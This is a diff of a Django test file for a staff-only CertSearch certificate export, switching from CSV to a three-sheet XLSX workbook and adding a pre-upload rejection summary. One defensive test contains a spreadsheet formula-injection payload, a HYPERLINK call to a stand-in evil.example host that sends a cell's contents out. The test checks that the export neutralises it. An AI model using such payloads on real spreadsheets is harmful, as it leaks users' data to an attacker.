@@ -1,6 +1,5 @@
-"""The IAF CertSearch export: CertSearch's field names, statuses and dates, for staff only."""
+"""The IAF CertSearch export: CertSearch's template (sheets, columns), statuses and dates, for staff only."""
 
-import csv
 import datetime
 import io
 import json
@@ -10,29 +9,46 @@ from django.apps import apps
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
+from openpyxl import load_workbook
 
-from certificates.certsearch import CSV_HEADER, certsearch_records
+from certificates.certsearch import (
+    CERTIFICATION_COLUMNS,
+    CERTIFIED_ENTITY_COLUMNS,
+    SITE_COLUMNS,
+    certsearch_records,
+)
 from certificates.models import Certificate
 from certificates.services import certificate_suspend, certificate_withdraw
 from tests.conftest import CAST_NAMES, ROOT
 from tests.factories import copy_certificate
 
-CSV_URL = "/certificates/export.csv"
+XLSX_URL = "/certificates/export.xlsx"
 JSON_URL = "/certificates/export.json"
+SUMMARY_URL = "/certificates/certsearch/"
+SHEETS = ["Certified Entity", "Certification", "Certification Sites"]
+
+
+def _workbook(response):
+    assert response.status_code == 200
+    return load_workbook(io.BytesIO(response.content))
+
+
+def _sheet(response, name: str) -> list[dict]:
+    """The sheet's rows as {column name: value}."""
+    rows = list(_workbook(response)[name].iter_rows(values_only=True))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
 
 
 def _rows(response):
-    text = response.content.decode("utf-8")
-    # Excel needs the byte-order mark to read UTF-8; a CSV reader sees it as part of the first cell.
-    assert text.startswith("\ufeff")
-    return list(csv.DictReader(io.StringIO(text[1:])))
+    """The Certification sheet's rows."""
+    return _sheet(response, "Certification")
 
 
 def _ymd(day: datetime.date) -> str:
     return day.strftime("%Y%m%d")
 
 
-@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
+@pytest.mark.parametrize("url", [XLSX_URL, JSON_URL, SUMMARY_URL])
 def test_it_lets_only_staff_export(url, cast, certificate, login):
     got = {}
     for name in CAST_NAMES:
@@ -50,41 +66,148 @@ def test_it_gives_staff_the_certificate_permissions(cast):
     assert not cast.client.has_perm("certificates.view_certificate")
 
 
-@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
+@pytest.mark.parametrize("url", [XLSX_URL, JSON_URL, SUMMARY_URL])
 def test_it_refuses_a_post(url, cast, login):
     assert login(cast.staff).post(url).status_code == 405
 
 
-def test_it_exports_csv_one_row_per_site(cast, certificate, login):
-    response = login(cast.staff).get(CSV_URL)
-    assert response["Content-Type"] == "text/csv; charset=utf-8"
+def test_it_writes_the_templates_sheets_and_columns_in_order(cast, certificate, login):
+    response = login(cast.staff).get(XLSX_URL)
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     today = _ymd(timezone.localdate())
-    assert response["Content-Disposition"] == f'attachment; filename="certsearch-{today}.csv"'
-    text = response.content.decode("utf-8")[1:]
-    assert next(csv.reader(io.StringIO(text))) == CSV_HEADER
-    rows = _rows(response)
-    assert [row["Certification Site City"] for row in rows] == ["Stockholm", "Göteborg", "Malmö"]
-    first = rows[0]
-    assert first["Certification Identity Number"] == str(certificate.identity)
-    assert first["Certificate Number"] == certificate.number
-    assert first["Certification Status"] == "Active"
-    assert first["Accreditation Status"] == "Accredited"
-    assert first["Certification Standards"] == cast.standard.code
-    assert first["Certification Scope"] == "Inbound customer service by telephone, e-mail and chat."
-    assert first["Certification Original Issue Date"] == _ymd(certificate.original_issue_date)
-    assert first["Certification Issue Date"] == _ymd(certificate.issue_date)
-    assert first["Certification Expiry Date"] == _ymd(certificate.expiry_date)
-    assert len(first["Certification Expiry Date"]) == 8
-    assert first["Certified Entity Name"] == "Nordkontakt AB"
-    assert first["Certified Entity Unique ID"] == cast.org_a.org_number
-    assert first["Certified Entity Registered Address"] == certificate.entity_address
-    assert first["Certification Site Name"] == "Stockholm"
-    assert first["Certification Site Country"] == "Sweden"
-    site = certificate.sites.get(name="Stockholm")
-    assert first["Certification Site Address"] == site.address
-    assert first["Certification Site Scope"] == site.scope
-    # The certificate's columns repeat on every site's row.
-    assert {row["Certificate Number"] for row in rows} == {certificate.number}
+    assert response["Content-Disposition"] == f'attachment; filename="certsearch-{today}.xlsx"'
+    workbook = _workbook(response)
+    assert workbook.sheetnames == SHEETS
+    headers = {name: [cell.value for cell in workbook[name][1]] for name in SHEETS}
+    assert headers == {
+        "Certified Entity": [
+            "Certified Entity Unique ID",
+            "Certified Entity Name",
+            "Certified Entity Trading Name",
+            "Certified Entity English Name",
+            "Certified Entity Street",
+            "Certified Entity City",
+            "Certified Entity State",
+            "Certified Entity Zipcode/Postcode",
+            "Certified Entity Country/Economy",
+        ],
+        "Certification": [
+            "Certification Identity Number",
+            "Certified Entity Unique ID",
+            "Certificate Number",
+            "Certification Status",
+            "Accreditation Status",
+            "Certification Type",
+            "Certification Standards",
+            "Certification Scope",
+            "Certification Original Issue Date",
+            "Certification Issue Date",
+            "Certification Expiry Date",
+        ],
+        "Certification Sites": [
+            "Certification Identity Number",
+            "Site Street",
+            "Site City",
+            "Site State",
+            "Site Zipcode/Postcode",
+            "Site Country/Economy",
+            "Site Scope",
+        ],
+    }
+    assert [c.name for c in CERTIFIED_ENTITY_COLUMNS] == headers["Certified Entity"]
+    assert [c.name for c in CERTIFICATION_COLUMNS] == headers["Certification"]
+    assert [c.name for c in SITE_COLUMNS] == headers["Certification Sites"]
+
+
+def test_it_exports_one_value_per_cell_with_yyyymmdd_dates(cast, certificate, login):
+    response = login(cast.staff).get(XLSX_URL)
+    (entity,) = _sheet(response, "Certified Entity")
+    organization = cast.org_a
+    assert entity == {
+        "Certified Entity Unique ID": organization.org_number,
+        "Certified Entity Name": "Nordkontakt AB",
+        "Certified Entity Trading Name": None,
+        "Certified Entity English Name": None,
+        "Certified Entity Street": organization.address,
+        "Certified Entity City": organization.city,
+        "Certified Entity State": None,
+        "Certified Entity Zipcode/Postcode": organization.postal_code or None,
+        "Certified Entity Country/Economy": "Sweden",
+    }
+    (row,) = _rows(response)
+    assert row == {
+        "Certification Identity Number": str(certificate.identity),
+        "Certified Entity Unique ID": organization.org_number,
+        "Certificate Number": certificate.number,
+        "Certification Status": "Active",
+        "Accreditation Status": "Unaccredited",
+        "Certification Type": "Management System",
+        "Certification Standards": cast.standard.code,
+        "Certification Scope": "Inbound customer service by telephone, e-mail and chat.",
+        "Certification Original Issue Date": _ymd(certificate.original_issue_date),
+        "Certification Issue Date": _ymd(certificate.issue_date),
+        "Certification Expiry Date": _ymd(certificate.expiry_date),
+    }
+    # Dates are eight-digit text, as the template wants them, never a spreadsheet date.
+    assert isinstance(row["Certification Expiry Date"], str) and len(row["Certification Expiry Date"]) == 8
+    sites = _sheet(response, "Certification Sites")
+    assert [site["Site City"] for site in sites] == ["Stockholm", "Göteborg", "Malmö"]
+    stockholm = certificate.sites.select_related("site").get(name="Stockholm")
+    assert sites[0] == {
+        "Certification Identity Number": str(certificate.identity),
+        "Site Street": stockholm.address or None,
+        "Site City": "Stockholm",
+        "Site State": None,
+        "Site Zipcode/Postcode": stockholm.site.postal_code or None,
+        "Site Country/Economy": "Sweden",
+        "Site Scope": stockholm.scope or None,
+    }
+
+
+def test_it_reports_accredited_from_the_scheme(cast, certificate, login):
+    scheme = cast.standard.scheme
+    scheme.accredited, scheme.accreditation_body, scheme.accreditation_number = True, "Swedac", "10203"
+    scheme.save()
+    client = login(cast.staff)
+    assert _rows(client.get(XLSX_URL))[0]["Accreditation Status"] == "Accredited"
+    assert (
+        json.loads(client.get(JSON_URL).content)["certifications"][0]["accreditation_status"] == "Accredited"
+    )
+
+
+def test_it_writes_one_certification_row_per_standard(cast, certificate, login):
+    from tests.factories import StandardFactory
+
+    certificate.standards.add(StandardFactory(code="ISO 9001:2015", title="Quality management"))
+    rows = _rows(login(cast.staff).get(XLSX_URL))
+    assert [row["Certification Standards"] for row in rows] == ["ISO 18295-1:2017", "ISO 9001:2015"]
+    assert {row["Certification Identity Number"] for row in rows} == {str(certificate.identity)}
+    # One scheme is not accredited: the certificate as a whole is not.
+    assert {row["Accreditation Status"] for row in rows} == {"Unaccredited"}
+
+
+def test_it_lists_a_row_certsearch_would_reject_before_download(cast, certificate, login):
+    type(cast.org_a).objects.filter(pk=cast.org_a.pk).update(address="")
+    client = login(cast.staff)
+    page = client.get(SUMMARY_URL)
+    assert page.status_code == 200
+    text = page.content.decode()
+    assert "CertSearch would refuse 1 row" in text
+    assert "Missing required field: Certified Entity Street" in text
+    assert "Nordkontakt AB" in text
+    assert 'href="/certificates/export.xlsx"' in text
+    # The file still holds the row, empty where the summary said.
+    assert _sheet(client.get(XLSX_URL), "Certified Entity")[0]["Certified Entity Street"] is None
+
+
+def test_it_says_when_nothing_would_be_rejected(cast, certificate, login):
+    text = login(cast.staff).get(SUMMARY_URL).content.decode()
+    assert "CertSearch should accept the file" in text
+    assert "would refuse" not in text
+
+
+def test_it_links_the_upload_from_the_staff_certificate_list(cast, certificate, login):
+    assert 'href="/certificates/certsearch/"' in login(cast.staff).get("/certificates/").content.decode()
 
 
 def test_it_exports_json_with_nested_sites(cast, certificate, login, settings):
@@ -98,7 +221,8 @@ def test_it_exports_json_with_nested_sites(cast, certificate, login, settings):
         "certification_identity_number": str(certificate.identity),
         "certificate_number": certificate.number,
         "certification_status": "Active",
-        "accreditation_status": "Accredited",
+        "accreditation_status": "Unaccredited",
+        "certification_type": "Management System",
         "certification_standards": [cast.standard.code],
         "certification_scope": "Inbound customer service by telephone, e-mail and chat.",
         "certification_original_issue_date": _ymd(certificate.original_issue_date),
@@ -107,16 +231,21 @@ def test_it_exports_json_with_nested_sites(cast, certificate, login, settings):
         "certified_entity_name": "Nordkontakt AB",
         "certified_entity_unique_id": cast.org_a.org_number,
         "certified_entity_address": certificate.entity_address,
+        "certified_entity_street": cast.org_a.address,
+        "certified_entity_city": cast.org_a.city,
+        "certified_entity_postal_code": cast.org_a.postal_code,
+        "certified_entity_country": "Sweden",
         "certification_sites": [
             {
                 "name": site.name,
                 "address": site.address,
                 "city": site.city,
+                "postal_code": site.site.postal_code,
                 "country": "Sweden",
                 "country_code": "SE",
                 "scope": site.scope,
             }
-            for site in certificate.sites.order_by("id")
+            for site in certificate.sites.select_related("site").order_by("id")
         ],
     }
     # Written as UTF-8, not \u escapes, so staff can read it.
@@ -155,33 +284,28 @@ def test_it_uses_certsearch_status_words(cast, certificate, login):
 def test_it_leaves_confidential_certificates_out(cast, certificate, login):
     copy_certificate(certificate, "CERT-2001-0009", confidential=True)
     client = login(cast.staff)
-    assert {row["Certificate Number"] for row in _rows(client.get(CSV_URL))} == {certificate.number}
+    assert {row["Certificate Number"] for row in _rows(client.get(XLSX_URL))} == {certificate.number}
     numbers = [r["certificate_number"] for r in json.loads(client.get(JSON_URL).content)["certifications"]]
     assert numbers == [certificate.number]
 
 
-def test_it_writes_one_row_for_a_certificate_without_sites(cast, certificate, login):
+def test_it_writes_no_site_rows_for_a_certificate_without_sites(cast, certificate, login):
     copy_certificate(certificate, "CERT-2001-0005", with_sites=False)
-    rows = [
-        row for row in _rows(login(cast.staff).get(CSV_URL)) if row["Certificate Number"] == "CERT-2001-0005"
-    ]
+    response = login(cast.staff).get(XLSX_URL)
+    rows = [row for row in _rows(response) if row["Certificate Number"] == "CERT-2001-0005"]
     assert len(rows) == 1
-    assert rows[0]["Certification Site Name"] == rows[0]["Certification Site Country"] == ""
     assert rows[0]["Certification Status"] == "Active"
-
-
-def test_it_joins_several_standards_in_one_cell(cast, certificate, login):
-    from tests.factories import StandardFactory
-
-    certificate.standards.add(StandardFactory(code="ISO 9001:2015", title="Quality management"))
-    row = _rows(login(cast.staff).get(CSV_URL))[0]
-    # In code order, so the same certificate always reads the same.
-    assert row["Certification Standards"] == "ISO 18295-1:2017; ISO 9001:2015"
+    identity = rows[0]["Certification Identity Number"]
+    assert [
+        s for s in _sheet(response, "Certification Sites") if s["Certification Identity Number"] == identity
+    ] == []
+    # Two certificates of one organisation: one Certified Entity row.
+    assert len(_sheet(response, "Certified Entity")) == 1
 
 
 def test_it_gives_an_organisation_without_a_number_a_stable_id(cast, certificate, login):
     type(cast.org_a).objects.filter(pk=cast.org_a.pk).update(org_number="")
-    row = _rows(login(cast.staff).get(CSV_URL))[0]
+    row = _rows(login(cast.staff).get(XLSX_URL))[0]
     assert row["Certified Entity Unique ID"] == f"CERTDESK-ORG-{cast.org_a.pk}"
 
 
@@ -193,7 +317,7 @@ def test_it_reads_the_export_in_three_queries(certificate, django_assert_num_que
     assert len(records) == 6
 
 
-@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
+@pytest.mark.parametrize("url", [XLSX_URL, JSON_URL, SUMMARY_URL])
 def test_it_exports_in_a_constant_number_of_queries(url, cast, certificate, login):
     client = login(cast.staff)
     client.get(url)  # warm the session and permission caches
@@ -211,33 +335,39 @@ FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
 
 @pytest.mark.parametrize("start", FORMULA_STARTS)
 def test_it_writes_no_cell_a_spreadsheet_would_run_as_a_formula(start, cast, certificate, login):
-    # What a client or staff typed reaches the CSV: scope, entity name and address, and each site's.
+    # What a client or staff typed reaches the workbook: scope, entity name and address, each site's.
     formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
-    Certificate.objects.filter(pk=certificate.pk).update(
-        scope=formula, entity_name=formula, entity_address=formula
-    )
-    certificate.sites.update(name=formula, address=formula, city=formula, scope=formula)
+    Certificate.objects.filter(pk=certificate.pk).update(scope=formula, entity_name=formula)
+    type(cast.org_a).objects.filter(pk=cast.org_a.pk).update(address=formula, city=formula)
+    certificate.sites.update(address=formula, city=formula, scope=formula)
 
-    rows = _rows(login(cast.staff).get(CSV_URL))
+    response = login(cast.staff).get(XLSX_URL)
+    workbook = _workbook(response)
 
-    columns = [
-        "Certification Scope",
-        "Certified Entity Name",
-        "Certified Entity Registered Address",
-        "Certification Site Name",
-        "Certification Site Address",
-        "Certification Site City",
-        "Certification Site Scope",
+    cells = [
+        *[_rows(response)[0]["Certification Scope"]],
+        *[
+            _sheet(response, "Certified Entity")[0][c]
+            for c in ("Certified Entity Street", "Certified Entity City")
+        ],
+        *[
+            site[c]
+            for site in _sheet(response, "Certification Sites")
+            for c in ("Site Street", "Site City", "Site Scope")
+        ],
     ]
-    cells = [row[column] for row in rows for column in columns]
-    assert len(cells) == 3 * len(columns)
-    # Shown as the text that was typed, after an apostrophe that keeps it from running.
-    assert set(cells) == {"'" + formula}
+    assert len(cells) == 1 + 2 + 3 * 3
+    # Shown as the text that was typed, after an apostrophe that keeps it from running (XML reads
+    # a carriage return back as a line feed).
+    assert set(cells) == {"'" + formula.replace("\r", "\n")}
+    # openpyxl stores no cell of any sheet as a formula.
+    kinds = {cell.data_type for sheet in workbook for row in sheet.iter_rows() for cell in row}
+    assert kinds <= {"s", "n", "inlineStr"}
 
 
 def test_it_leaves_ordinary_cells_as_they_are(cast, certificate, login):
     Certificate.objects.filter(pk=certificate.pk).update(scope="Inbound calls - and e-mail = 100 %")
-    row = _rows(login(cast.staff).get(CSV_URL))[0]
+    row = _rows(login(cast.staff).get(XLSX_URL))[0]
     assert row["Certification Scope"] == "Inbound calls - and e-mail = 100 %"
 
 
